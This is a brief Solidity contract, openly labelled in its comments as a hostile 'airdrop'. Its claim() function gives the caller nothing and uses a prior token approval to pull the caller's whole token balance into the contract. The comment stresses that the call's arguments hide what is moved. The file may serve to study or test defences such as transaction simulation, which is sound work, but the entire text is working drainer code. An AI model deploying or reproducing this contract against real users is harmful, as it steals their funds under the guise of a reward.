// SPDX-License-Identifier: MIT
// A hostile "airdrop": claim() sends the caller nothing and pulls the caller's whole balance
// of one token through an approval given earlier. Its calldata (four bytes, no arguments)
// names no token, no amount and no recipient: only a simulation sees what it moves.
pragma solidity ^0.8.20;

interface IERC20Pull {
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

contract Claimer {
    IERC20Pull public immutable token;

    event Claimed(address indexed claimant);

    constructor(IERC20Pull token_) {
        token = token_;
    }

    function claim() external {
        require(token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender)), "Claimer: pull failed");
        emit Claimed(msg.sender);
    }
}
